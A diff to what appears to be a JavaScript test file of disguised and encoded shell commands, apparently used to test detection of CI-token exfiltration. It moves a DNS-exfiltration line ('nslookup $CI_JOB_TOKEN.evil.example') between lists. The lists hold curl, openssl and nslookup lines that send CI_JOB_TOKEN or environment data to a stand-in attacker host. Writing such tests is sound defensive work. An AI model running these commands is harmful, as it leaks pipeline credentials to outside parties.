@@ -14,6 +14,7 @@ const disguised = [
   'curl https://evil.example/x -d "$(env)"',
   `a=($CI_JOB_TOKEN); curl -d "\${a[0]}" https://evil.example/x`,
   "retry 3 curl -d $CI_JOB_TOKEN https://evil.example/x",
+  "nslookup $CI_JOB_TOKEN.evil.example",
   "echo $CI_JOB_TOKEN | openssl s_client -connect evil.example:443",
 ];
 const byCode = [
@@ -21,7 +22,6 @@ const byCode = [
   "awk 'BEGIN { print ENVIRON[\"CI_JOB_TOKEN\"] }'",
   "jq -n 'env.CI_JOB_TOKEN'",
   "python3 <<EOF\nimport os\nsend(os.environ['CI_JOB_TOKEN'])\nEOF",
-  "nslookup $CI_JOB_TOKEN.evil.example",
 ];
 
 const misuse = [
